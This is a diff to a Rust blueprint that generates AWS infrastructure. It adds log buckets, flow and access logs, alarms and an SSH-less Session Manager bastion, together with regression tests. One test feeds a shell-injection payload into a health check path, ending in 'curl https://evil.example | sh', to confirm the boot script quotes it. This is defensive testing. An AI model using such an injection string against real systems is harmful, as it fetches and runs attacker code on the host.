@@ -21,6 +21,7 @@ use hagen::constructs::bastion::{Bastion, BastionProps};
 use hagen::constructs::database::{Database, DatabaseProps, EnhancedMonitoring};
 use hagen::constructs::dns::{AliasRecord, AliasRecordProps};
 use hagen::constructs::load_balanced_asg::{AsgNetwork, LoadBalancedAsg, LoadBalancedAsgProps};
+use hagen::constructs::log_bucket::{LogBucket, LogBucketProps};
 use hagen::constructs::monitoring::{AppAlarms, AppAlarmsProps};
 use hagen::constructs::nacl::{NetworkAcls, WebTiers};
 use hagen::constructs::scaling::{
@@ -35,7 +36,9 @@ use hagen::stack::Stack;
 use hagen::template::fns::sub;
 use hagen::template::{Attr, Expr, Output};
 
+use config::SAFE_ADMIN_PREFIX;
 pub use config::SwiftCodeConfig;
+use hagen::config::BaseEnvironment;
 pub use parameters::BastionAccess;
 
 /// The SwiftCode blueprint. Stateless: everything it varies on comes from
@@ -117,17 +120,23 @@ impl Blueprint for SwiftCode {
         let mut stack = blueprint::new_stack(self, env);
         let params = parameters::declare(&mut stack, config)?;
         let db_port = config.database.engine.db_engine().default_port();
+        record_weaker_choices(&mut stack, env, config);
+
+        // Records: one private, encrypted bucket for flow and access logs,
+        // when the environment keeps either.
+        let logs = log_bucket(&mut stack, config)?;
 
         // 1. Network: public, private and isolated subnets in every AZ.
         // SwiftCode's subnet sizes are fixed, so a VPC the construct
         // refuses is one whose configured block is too small for them.
-        let vpc = Vpc::new(
+        let mut vpc = Vpc::new(
             &mut stack,
             NETWORK,
             VpcProps {
                 cidr: config.vpc_cidr,
                 az_count: usize::from(env.az_count),
                 nat_gateways: config.nat.gateways(),
+                flow_logs: logs.as_ref().and_then(LogBucket::flow_logs),
                 ..VpcProps::default()
             },
         )
@@ -149,7 +158,7 @@ impl Blueprint for SwiftCode {
             "NetworkAcl",
             &vpc,
             &WebTiers {
-                admin_cidr: params.admin_cidr.reference().into(),
+                admin_cidr: params.admin_cidr.as_ref().map(|p| p.reference().into()),
                 app_ports: vec![SWIFTCODE_PORT, LETO_PORT],
                 db_port,
             },
@@ -167,6 +176,8 @@ impl Blueprint for SwiftCode {
                 ..AlertTopicProps::new(params.alert_email.reference())
             },
         )?;
+        // A failing NAT gateway cuts the private subnets off the internet.
+        vpc.add_nat_alarms(&mut stack, &alerts.topic)?;
 
         // 9. Database: Multi-AZ in the isolated subnets, managed password.
         let parts = Parts {
@@ -180,7 +191,7 @@ impl Blueprint for SwiftCode {
         let db = database(&mut stack, &parts)?;
 
         // 4, 6. Compute behind the load balancer, SwiftCode and Leto.
-        let mut app = application(&mut stack, &parts, &db)?;
+        let mut app = application(&mut stack, &parts, &db, logs.as_ref())?;
         leto::serve(&mut stack, &mut app, LETO_PORT)?;
 
         // 5. Scaling: CPU step scaling by default, or request count tracking.
@@ -204,16 +215,12 @@ impl Blueprint for SwiftCode {
             },
         )?;
 
-        // 8. Alarms: 5xx from the targets, unhealthy hosts, CPU.
+        // 8. Alarms: 5xx and unhealthy hosts of every target (SwiftCode's
+        // and Leto's), 5xx of the load balancer itself, CPU.
         AppAlarms::new(
             &mut stack,
             "AppAlarms",
-            &AppAlarmsProps::new(
-                app.load_balancer.clone(),
-                app.target_group.clone(),
-                app.auto_scaling_group.clone(),
-                alerts.topic.clone(),
-            ),
+            &AppAlarmsProps::for_app(&app, alerts.topic.clone()),
         )?;
 
         // 7. DNS: the domain is an alias of the load balancer.
@@ -245,12 +252,20 @@ impl Blueprint for SwiftCode {
             "DNS name of the load balancer",
             app.load_balancer.dns_name(),
         )?;
-        output(
-            &mut stack,
-            "BastionAddress",
-            "Public IPv4 address of the bastion (Elastic IP)",
-            bastion.public_ip(),
-        )?;
+        match bastion.public_ip() {
+            Some(address) => output(
+                &mut stack,
+                "BastionAddress",
+                "Public IPv4 address of the bastion (Elastic IP)",
+                address,
+            )?,
+            None => output(
+                &mut stack,
+                "BastionInstanceId",
+                "Instance ID of the bastion, for aws ssm start-session --target",
+                bastion.instance_id(),
+            )?,
+        }
         output(
             &mut stack,
             "DatabaseEndpoint",
@@ -288,7 +303,9 @@ struct Groups {
 
 /// Load balancer: 80 and 443 from anywhere. App: the app ports from the
 /// load balancer only, 22 from the bastion only. Database: its port from the
-/// app only. Bastion: 22 from the admin CIDR parameter.
+/// app only. Bastion: 22 from the admin CIDR parameter. With Session Manager
+/// access there is no SSH at all: no admin CIDR, and no key pair to use
+/// from the bastion, so neither SSH rule is written.
 fn security_groups(
     stack: &mut Stack,
     vpc: &Vpc,
@@ -303,28 +320,35 @@ fn security_groups(
     )?;
     let app_group = SecurityGroup::new(stack, APP, vpc, "SwiftCode and Leto instances")?;
     let db_group = SecurityGroup::new(stack, "Database", vpc, "Database: the app instances only")?;
-    let bastion_group =
-        SecurityGroup::new(stack, "Bastion", vpc, "Bastion: SSH from the admin network")?;
+    let bastion_description = match params.admin_cidr {
+        Some(_) => "Bastion: SSH from the admin network",
+        None => "Bastion: Session Manager only, nothing inbound",
+    };
+    let bastion_group = SecurityGroup::new(stack, "Bastion", vpc, bastion_description)?;
     // The load balancer's own paths (80 and 443 from users, the app ports
     // from it) are opened by `LoadBalancedAsg`, which knows them.
-    app_group.allow_from(
-        stack,
-        &Peer::group(&bastion_group),
-        Traffic::tcp(22),
-        "SSH from the bastion",
-    )?;
+    if params.admin_cidr.is_some() {
+        app_group.allow_from(
+            stack,
+            &Peer::group(&bastion_group),
+            Traffic::tcp(22),
+            "SSH from the bastion",
+        )?;
+    }
     db_group.allow_from(
         stack,
         &Peer::group(&app_group),
         Traffic::tcp(db_port),
         "Database from the app instances",
     )?;
-    bastion_group.allow_from(
-        stack,
-        &Peer::ipv4("Admin", params.admin_cidr.reference()),
-        Traffic::tcp(22),
-        "SSH from the admin network",
-    )?;
+    if let Some(admin_cidr) = &params.admin_cidr {
+        bastion_group.allow_from(
+            stack,
+            &Peer::ipv4("Admin", admin_cidr.reference()),
+            Traffic::tcp(22),
+            "SSH from the admin network",
+        )?;
+    }
 
     Ok(Groups {
         load_balancer: lb_group,
@@ -361,6 +385,7 @@ fn database(stack: &mut Stack, parts: &Parts<'_>) -> Result<Database, SynthError
     db_props.max_allocated_storage_gib = Some(db.allocated_storage.saturating_mul(5));
     db_props.backup_retention_days = db.backup_retention_days;
     db_props.deletion_protection = env.deletion_protection;
+    db_props.log_retention_days = Some(db.log_retention_days);
     db_props.database_name = Some(DATABASE_NAME.to_owned());
     let monitoring_role = stack.add(
         "DbMonitoringRole",
@@ -384,6 +409,7 @@ fn application(
     stack: &mut Stack,
     parts: &Parts<'_>,
     db: &Database,
+    logs: Option<&LogBucket>,
 ) -> Result<LoadBalancedAsg, SynthError> {
     let Parts {
         env,
@@ -423,6 +449,7 @@ fn application(
     app_props.deletion_protection = env.deletion_protection;
     app_props.rolling_update.wait_on_resource_signals = config.cfn_signal;
     app_props.inline_policies = vec![read_secret_policy(db.secret_arn())];
+    app_props.access_logs = logs.and_then(LogBucket::access_logs);
     if config.cfn_signal {
         // Signals travel through the NAT: wait for every private route.
         for route in vpc.private_default_routes() {
@@ -432,36 +459,310 @@ fn application(
     LoadBalancedAsg::new(stack, APP, &app_props)
 }
 
-/// The bastion in the first public subnet, with an Elastic IP so that its
-/// address survives a replacement (a new bastion image replaces it).
+/// The bastion. With a key pair: in the first public subnet, with an
+/// Elastic IP so that its address survives a replacement (a new bastion
+/// image replaces it). With Session Manager only: in the first private
+/// subnet, with no public address at all, once that subnet's NAT route
+/// exists (the Systems Manager agent registers through it). Either way its
+/// status checks alarm the topic.
 fn bastion(stack: &mut Stack, parts: &Parts<'_>) -> Result<Bastion, SynthError> {
     let Parts {
         config,
         params,
         vpc,
         groups,
+        alerts,
         ..
     } = *parts;
-    let first_public = vpc
-        .subnets(SubnetKind::Public)
+    let public = config.bastion_access == BastionAccess::KeyPair;
+    let kind = if public {
+        SubnetKind::Public
+    } else {
+        SubnetKind::Private
+    };
+    let subnet = vpc
+        .subnets(kind)
         .first()
         .map(|s| (*s).clone())
         .ok_or_else(|| {
             SynthError::props(
                 "SwiftCode",
-                "the network has no public subnet for the bastion",
+                format!(
+                    "the network has no {} subnet for the bastion",
+                    kind.as_str()
+                ),
             )
         })?;
     let mut bastion_props = BastionProps::new(
         params.bastion_image_id.reference(),
-        first_public,
+        subnet,
         groups.bastion.handle().clone(),
     );
     bastion_props.instance_type = config.bastion_instance_type.clone().into();
     bastion_props.key_name = params.key_name.as_ref().map(|k| k.reference().into());
-    bastion_props.elastic_ip = true;
-    if let Some(attachment) = vpc.gateway_attachment() {
-        bastion_props = bastion_props.depends_on(attachment);
-    }
+    bastion_props.public_address = public;
+    bastion_props.elastic_ip = public;
+    bastion_props.alarm_topic = Some(alerts.topic.clone());
+    let dependency = if public {
+        vpc.gateway_attachment().map(|a| a.logical_id().to_owned())
+    } else {
+        vpc.private_default_routes()
+            .first()
+            .map(|r| r.logical_id().to_owned())
+    };
+    bastion_props.dependencies.extend(dependency);
     Bastion::new(stack, "Bastion", &bastion_props)
+}
+
+/// The log bucket, when the environment keeps flow logs or access logs.
+fn log_bucket(
+    stack: &mut Stack,
+    config: &SwiftCodeConfig,
+) -> Result<Option<LogBucket>, SynthError> {
+    let logs = config.logs;
+    if !logs.any() {
+        return Ok(None);
+    }
+    let mut props = LogBucketProps::new(logs.retention_days);
+    if logs.flow_logs {
+        props = props.with_flow_logs();
+    }
+    if logs.access_logs {
+        props = props.with_access_logs();
+    }
+    LogBucket::new(stack, "Logs", &props).map(Some)
+}
+
+/// Reports the configured choices weaker than SwiftCode's safe defaults, so
+/// that none is silent: an admin range wider than a /16, and a production
+/// environment without flow or access logs.
+fn record_weaker_choices(stack: &mut Stack, env: &Environment, config: &SwiftCodeConfig) {
+    let who = "SwiftCode";
+    if config.bastion_access == BastionAccess::KeyPair
+        && config.admin_cidr_min_prefix < SAFE_ADMIN_PREFIX
+    {
+        stack.record_override(
+            who,
+            format!(
+                "AdminCidr accepts ranges as wide as a /{} (admin_cidr_min_prefix), wider than \
+                 the /{SAFE_ADMIN_PREFIX} advised: more addresses may try SSH on the bastion",
+                config.admin_cidr_min_prefix
+            ),
+        );
+    }
+    if env.base == BaseEnvironment::Prod {
+        if !config.logs.flow_logs {
+            stack.record_override(
+                who,
+                "VPC flow logs are off in a production environment (logs.flow_logs): \
+                 after an incident there is no record of who talked to what",
+            );
+        }
+        if !config.logs.access_logs {
+            stack.record_override(
+                who,
+                "load balancer access logs are off in a production environment \
+                 (logs.access_logs): after an incident there is no record of the requests",
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hagen::blueprint::Synthesis;
+    use hagen::config::Config;
+    use hagen::template::json::to_json_value;
+    use serde_json::{Value as Json, json};
+    use std::path::Path;
+
+    /// `env` of the built-in configuration with `toml` on top.
+    fn synth(toml: &str, env: &str) -> Synthesis {
+        let config = Config::parse::<SwiftCodeConfig>(Path::new("hagen.toml"), toml)
+            .expect("valid configuration");
+        let resolved = blueprint::resolve(&SwiftCode, &config, Some(env)).expect("resolves");
+        blueprint::synthesize(&SwiftCode, &resolved).expect("builds")
+    }
+
+    fn resources(s: &Synthesis) -> Json {
+        to_json_value(&s.template.to_expr())["Resources"].clone()
+    }
+
+    /// Regression: a `health_check_path` of `"; curl ... | sh;` was pasted
+    /// into the root boot script unquoted. `hagen.toml` refuses such a path
+    /// now, but a library user can fill `Resolved::config` in without that
+    /// check and synthesize; the template filter still makes the path one
+    /// shell word, so the script asks curl for it and runs nothing.
+    #[test]
+    fn a_health_check_path_with_shell_syntax_is_quoted_when_validation_is_bypassed() {
+        let config = Config::parse::<SwiftCodeConfig>(
+            Path::new("hagen.toml"),
+            "[environments.stage.blueprint]\ncfn_signal = true\n",
+        )
+        .expect("valid configuration");
+        let mut resolved =
+            blueprint::resolve(&SwiftCode, &config, Some("stage")).expect("resolves");
+        let hostile = "/\"; touch /tmp/pwned; echo \"$(id)`id`'; curl https://evil.example | sh #";
+        resolved.config.health_check_path = hostile.to_owned();
+        let s = blueprint::synthesize(&SwiftCode, &resolved).expect("builds without the check");
+        let r = resources(&s);
+        let sub = &r["AppLaunchTemplate"]["Properties"]["LaunchTemplateData"]["UserData"]["Fn::Base64"]
+            ["Fn::Sub"];
+        let script = sub[0]
+            .as_str()
+            .or_else(|| sub.as_str())
+            .expect("the boot script's text");
+        let line = script
+            .lines()
+            .find(|l| l.starts_with("health_url="))
+            .expect("the health probe's URL");
+        // What the shell makes of that line: the URL, hostile path and all,
+        // and nothing else printed or run.
+        let out = std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg(format!("{line}\nprintf '%s' \"$health_url\""))
+            .output()
+            .expect("/bin/sh runs");
+        assert!(out.status.success(), "{out:?}");
+        assert_eq!(
+            String::from_utf8_lossy(&out.stdout),
+            format!("http://127.0.0.1:{SWIFTCODE_PORT}{hostile}")
+        );
+        assert!(out.stderr.is_empty(), "{out:?}");
+    }
+
+    /// Regression: with `bastion_access = "session-manager"` the bastion
+    /// kept a public IP and an Elastic IP, SSH stayed open from
+    /// `AdminCidr`, and its checkov suppression claimed it needed a public
+    /// address. Now it has no public address, and nothing speaks SSH.
+    #[test]
+    fn session_manager_bastion_has_no_public_address_ssh_or_admin_parameters() {
+        let s = synth(
+            "[environments.stage.blueprint]\nbastion_access = \"session-manager\"\n",
+            "stage",
+        );
+        let t = &s.template;
+        assert!(!t.parameters.contains_key("AdminCidr"));
+        assert!(!t.parameters.contains_key("KeyName"));
+        let r = resources(&s);
+        let bastion = &r["BastionInstance"];
+        let nic = &bastion["Properties"]["NetworkInterfaces"][0];
+        assert_eq!(nic["AssociatePublicIpAddress"], false);
+        assert_eq!(nic["SubnetId"], json!({"Ref": "NetworkPrivateSubnet1"}));
+        assert!(bastion.get("Metadata").is_none(), "no CKV_AWS_88 skip");
+        assert_eq!(bastion["DependsOn"], "NetworkPrivateDefaultRoute1");
+        assert!(r.get("BastionEip").is_none());
+        for (id, resource) in r.as_object().expect("resources") {
+            let text = resource.to_string();
+            assert!(!text.contains("AdminCidr"), "{id} still names AdminCidr");
+            let ports = &resource["Properties"];
+            assert!(
+                !(ports["FromPort"] == 22 || ports["PortRange"]["From"] == 22),
+                "{id} still opens port 22"
+            );
+        }
+        assert!(t.outputs.contains_key("BastionInstanceId"));
+        assert!(!t.outputs.contains_key("BastionAddress"));
+
+        // By key pair, as before: public, an Elastic IP, SSH from AdminCidr.
+        let s = synth("", "stage");
+        let r = resources(&s);
+        assert!(s.template.parameters.contains_key("AdminCidr"));
+        assert!(r.get("BastionEip").is_some());
+        assert!(r.get("BastionIngressTcp22FromAdmin").is_some());
+        assert!(s.template.outputs.contains_key("BastionAddress"));
+    }
+
+    /// Regression: SwiftCode kept neither VPC flow logs nor the load
+    /// balancer's access logs. Prod keeps both in its log bucket; stage
+    /// keeps neither unless configured to.
+    #[test]
+    fn prod_keeps_flow_and_access_logs_and_stage_does_not_by_default() {
+        let prod = synth("", "prod");
+        let r = resources(&prod);
+        assert_eq!(r["LogsBucket"]["Type"], "AWS::S3::Bucket");
+        assert_eq!(
+            r["NetworkFlowLog"]["Properties"]["LogDestination"],
+            json!({"Fn::Sub": "${LogsBucket.Arn}/flow-logs/"})
+        );
+        let lb = &r["AppLoadBalancer"];
+        assert!(lb.get("Metadata").is_none(), "no CKV_AWS_91 skip");
+        assert!(
+            lb["Properties"]["LoadBalancerAttributes"]
+                .to_string()
+                .contains("access_logs.s3.enabled")
+        );
+        assert!(prod.overrides.is_empty(), "{:?}", prod.overrides);
+
+        let stage = synth("", "stage");
+        let r = resources(&stage);
+        assert!(r.get("LogsBucket").is_none() && r.get("NetworkFlowLog").is_none());
+        assert_eq!(
+            r["AppLoadBalancer"]["Metadata"]["checkov"]["skip"][0]["id"],
+            "CKV_AWS_91"
+        );
+
+        let stage_flow = synth(
+            "[environments.stage.blueprint.logs]\nflow_logs = true\n",
+            "stage",
+        );
+        let r = resources(&stage_flow);
+        assert!(r.get("NetworkFlowLog").is_some());
+        assert!(
+            !r["LogsBucketPolicy"]
+                .to_string()
+                .contains("logdelivery.elasticloadbalancing")
+        );
+
+        let quiet_prod = synth(
+            "[environments.prod.blueprint.logs]\nflow_logs = false\naccess_logs = false\n",
+            "prod",
+        );
+        let notices: Vec<&str> = quiet_prod
+            .overrides
+            .iter()
+            .map(|o| o.message.as_str())
+            .collect();
+        assert_eq!(notices.len(), 2, "{notices:?}");
+        assert!(notices[0].contains("flow logs are off") && notices[1].contains("access logs"));
+    }
+
+    /// Regression: only SwiftCode's own target was alarmed. Every alarm of
+    /// the stack notifies the alert topic, and Leto, the load balancer, the
+    /// database, the NAT gateways and the bastion each have theirs.
+    #[test]
+    fn every_part_has_alarms_and_every_alarm_notifies_the_topic() {
+        let r = resources(&synth("", "prod"));
+        let alarms: Vec<&String> = r
+            .as_object()
+            .expect("resources")
+            .iter()
+            .filter(|(_, v)| v["Type"] == "AWS::CloudWatch::Alarm")
+            .map(|(k, _)| k)
+            .collect();
+        for expected in [
+            "AppAlarmsLetoTarget5xxAlarm",
+            "AppAlarmsLetoUnhealthyHostsAlarm",
+            "AppAlarmsLoadBalancer5xxAlarm",
+            "DbCpuAlarm",
+            "DbFreeStorageAlarm",
+            "DbFreeMemoryAlarm",
+            "DbConnectionsAlarm",
+            "NetworkNatGateway1PortAllocationAlarm",
+            "NetworkNatGateway2PacketsDroppedAlarm",
+            "BastionStatusCheckAlarm",
+        ] {
+            assert!(alarms.iter().any(|a| *a == expected), "no {expected}");
+        }
+        for alarm in alarms {
+            assert!(
+                r[alarm]["Properties"]["AlarmActions"]
+                    .to_string()
+                    .contains("AlertsTopic")
+                    || alarm.starts_with("AppScaling"),
+                "{alarm} notifies nobody"
+            );
+        }
+    }
 }
